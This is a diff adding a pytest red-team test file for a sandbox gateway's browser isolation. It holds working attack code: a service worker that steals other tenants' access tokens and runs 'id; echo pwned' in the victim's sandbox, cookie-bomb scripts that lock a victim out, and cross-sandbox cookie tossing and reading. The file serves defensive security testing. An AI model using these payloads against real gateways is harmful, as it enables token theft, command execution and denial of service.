@@ -1,0 +1,183 @@
+"""RED TEAM (issue #26 review): attacks on the browser isolation that SUCCEED against the current code.
+
+Every test here is a hole found by attacking gateway/proxy/_browser.py, _keys.py and _refusals.py as a
+hostile tenant with a real browser would. Each asserts what SECURITY.md's "Browsers" section (and issue
+#26's "what must hold") promises, so each FAILS until the hole is closed. Write-up, reproduction and
+suggested fixes: /work/notes/redteam-26.md.
+
+The scene is the one of tests/test_browser_isolation.py (a whole gateway, a fake fleet, a real headless
+Chromium), with a fleet that also serves what a hostile tenant's dev server would: a service worker
+that asks for a wider scope, and an app that keeps a session cookie.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+from aiohttp import web
+
+from tests.browser import Browser, Page
+from tests.client_gateway import PATH_PREFIX, PREVIEW_DOMAIN, client_gateway
+from tests.proxy_helpers import aiohttp_backend
+from tests.test_browser_isolation import ATTACKER, VICTIM, Fleet, Scene, _tenant, _until_async, chromium, fetch
+
+__all__ = ["chromium"]  # the fixture, imported for pytest
+
+# A service worker a tenant serves. It asks for the scope "/" (its response says
+# Service-Worker-Allowed: /), so it sees every request of the gateway's one path-mode origin, tokens in
+# their URLs included; with a token that is not its own it drives that sandbox.
+SERVICE_WORKER = """
+self.addEventListener('install', e => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(clients.claim()));
+self.addEventListener('fetch', e => {
+  const u = new URL(e.request.url);
+  const token = u.searchParams.get('access_token');
+  const prefix = u.pathname.split('/').slice(0, 4).join('/');
+  if (token && prefix !== MINE && !u.pathname.endsWith('/execute')) {
+    fetch(prefix + '/execute?access_token=' + encodeURIComponent(token),
+          {method: 'POST', body: '{"command": "id; echo pwned > pwned.txt"}'});
+  }
+});
+"""
+
+
+class HostileFleet(Fleet):
+    """The fleet of tests/test_browser_isolation.py, plus a service worker and an app session cookie."""
+
+    async def handle(self, request: web.Request) -> web.StreamResponse:
+        if request.path.endswith("/sw.js"):
+            mine = request.headers.get("X-Forwarded-Prefix", "").rstrip("/")
+            self.requests.append({"sandbox": request.headers.get("X-Sandbox-Id", "?"), "path": request.path,
+                                  "cookie": "", "site": request.headers.get("Sec-Fetch-Site")})
+            return web.Response(text=f"const MINE = {json.dumps(mine)};" + SERVICE_WORKER,
+                                content_type="application/javascript", headers={"Service-Worker-Allowed": "/"})
+        if request.path.endswith("/login"):
+            response = web.Response(text="logged in")
+            response.headers.add("Set-Cookie", "app_session=victim-secret; Path=/; HttpOnly")
+            response.headers.add("Set-Cookie", "app_visible=victim-visible; Path=/")
+            return response
+        return await super().handle(request)
+
+
+@pytest.fixture
+async def red(tmp_path, chromium: Browser) -> AsyncIterator[Scene]:
+    fleet = HostileFleet()
+    async with aiohttp_backend(fleet.handle) as backend:
+        policy = json.dumps({
+            "pools": {"shared": {"provider": "static", "upstreams": [f"http://127.0.0.1:{backend.port}"],
+                                 "ports": [backend.port]}},
+            "routing": {"prefix_pools": {"default": "shared"}}})
+        async with client_gateway(tmp_path, policy=policy, access_token_max_ttl=600) as gw:
+            victim = await _tenant(gw, *VICTIM)
+            attacker = await _tenant(gw, *ATTACKER)
+            yield Scene(gw, fleet, backend.port, chromium, victim, attacker)
+
+
+async def _jar(browser: Browser, prefix: str) -> int:
+    return len([c for c in await browser.cookies() if c["name"].startswith(prefix)])
+
+
+async def _victim_executed(scene: Scene, within: float) -> list[tuple[str, str]]:
+    """What the victim's sandbox was made to execute, waiting up to ``within`` seconds for something."""
+    deadline = asyncio.get_running_loop().time() + within
+    while asyncio.get_running_loop().time() < deadline:
+        ran = [e for e in scene.fleet.executed if e[0] == scene.victim.sandbox_id]
+        if ran:
+            return ran
+        await asyncio.sleep(0.05)
+    return []
+
+
+# --- RED TEAM #1 (high): a cookie bomb made of names the 431 never expires keeps the victim out for good ---
+
+# Names that differ from "sgw_access" only in case: a browser keeps each as its own cookie, the 431's
+# CookieNames skips them all (it compares names case-insensitively with the gateway's own).
+CASE_VARIANTS = """
+const base = 'sgw_access', names = new Set();
+for (let m = 1; names.size < 40; m++) {
+  let s = '';
+  for (let i = 0; i < base.length; i++) s += (m >> i) & 1 ? base[i].toUpperCase() : base[i];
+  if (s !== base) names.add(s);
+}
+"""
+
+
+@pytest.mark.parametrize("bomb", [
+    pytest.param(CASE_VARIANTS + "for (const n of names) document.cookie = n + '=' + 'x'.repeat(3900)"
+                 f" + '; domain={PREVIEW_DOMAIN}; path=/'; names.size", id="names-that-differ-from-sgw_access-in-case"),
+    pytest.param("for (let i = 0; i < 40; i++) document.cookie = 'L' + i + 'y'.repeat(300) + '=' + 'x'.repeat(3600)"
+                 f" + '; domain={PREVIEW_DOMAIN}; path=/'; 40", id="names-longer-than-256-bytes"),
+])
+async def test_redteam_cookie_bomb_the_431_does_not_expire_keeps_the_victim_out(red: Scene, bomb: str):
+    victim, attacker = red.victim, red.attacker
+    mine = await red.browser.new_page()
+    assert (await mine.goto(victim.host_url))["status"] == 200
+    theirs = await red.browser.new_page()
+    assert (await theirs.goto(attacker.host_url))["status"] == 200
+    count = await theirs.evaluate(bomb)
+    await _until_async(lambda: _domain_cookies(red.browser), count)
+    first = await mine.goto(victim.host(red, "/page"))
+    assert first["status"] == 431
+    # SECURITY.md: "40 cookies ... cost the victim one 431, then 200". Here every later request is 431 too.
+    for _ in range(3):
+        again = await mine.goto(victim.host(red, "/page"))
+        assert again["status"] == 200, f"the victim is still locked out ({again['status']}) after the first 431"
+
+
+async def _domain_cookies(browser: Browser) -> int:
+    return len([c for c in await browser.cookies() if c["domain"].lstrip(".") == PREVIEW_DOMAIN])
+
+
+# --- RED TEAM #2 (critical): path mode, a tenant's service worker takes every other sandbox's token ---
+
+async def test_redteam_path_mode_service_worker_steals_the_victims_token_and_drives_her_sandbox(red: Scene):
+    victim, attacker = red.victim, red.attacker
+    theirs = await red.browser.new_page()
+    # The victim opens a link the attacker shared (as in issue #26's demonstration).
+    assert (await theirs.goto(attacker.path(red, f"/page?access_token={attacker.token}")))["status"] == 200
+    scope = await theirs.evaluate(
+        f"navigator.serviceWorker.register({json.dumps(attacker.path(red, '/sw.js?access_token=' + attacker.token))},"
+        " {scope: '/'}).then(() => navigator.serviceWorker.ready).then(r => r.scope)"
+        ".catch(e => 'refused: ' + e)")
+    assert scope == red.gw.data_url + "/", scope  # the whole origin: every sandbox's path URLs
+    # Later, the victim opens her own sandbox's path URL (the grant's, token in the URL, as documented).
+    mine = await red.browser.new_page()
+    assert (await mine.goto(victim.path_url))["status"] == 200
+    # SECURITY.md: in path mode "an attacker's page on the same gateway ... the victim's sandbox receives
+    # nothing". The attacker's worker saw her URL, took the token and ran a command in her sandbox.
+    assert await _victim_executed(red, 5.0) == []
+
+
+# --- RED TEAM #3 (medium): path mode, a sandbox's cookies are not "set for itself alone" ---
+
+async def test_redteam_path_mode_attacker_page_tosses_a_cookie_into_the_victims_sandbox(red: Scene):
+    victim, attacker = red.victim, red.attacker
+    theirs = await red.browser.new_page()
+    assert (await theirs.goto(attacker.path(red, f"/page?access_token={attacker.token}")))["status"] == 200
+    victim_prefix = f"{PATH_PREFIX}/{victim.sandbox_id}/{red.fleet_port}/"
+    await theirs.evaluate(f"document.cookie = 'app_session=chosen-by-the-attacker; path={victim_prefix}'; true")
+    mine = await red.browser.new_page()
+    assert (await mine.goto(victim.path_url))["status"] == 200
+    echoed = await fetch(mine, f"echo?access_token={victim.token}")
+    # SECURITY.md: a sandbox's cookies are "set for itself alone"; issue #26: "tossed cookies never reach
+    # another sandbox". The attacker's page set the victim app's session cookie (session fixation).
+    assert "chosen-by-the-attacker" not in json.loads(echoed[1])["cookie"]
+
+
+async def test_redteam_path_mode_attacker_page_reads_the_victim_apps_cookies(red: Scene):
+    victim, attacker = red.victim, red.attacker
+    mine = await red.browser.new_page()
+    assert (await mine.goto(victim.path_url))["status"] == 200
+    assert (await fetch(mine, f"login?access_token={victim.token}"))[0] == 200  # the app's session cookie
+    theirs = await red.browser.new_page()
+    assert (await theirs.goto(attacker.path(red, f"/page?access_token={attacker.token}")))["status"] == 200
+    # Any page of the victim's path (a 401 without the token is enough) is same-origin with the attacker's.
+    seen = await theirs.evaluate(
+        f"new Promise(done => {{ const f = document.createElement('iframe');"
+        f" f.src = {json.dumps(victim.path(red, '/anything'))};"
+        " f.onload = () => done(f.contentDocument.cookie); document.body.appendChild(f); })")
+    assert "victim-visible" not in seen, seen
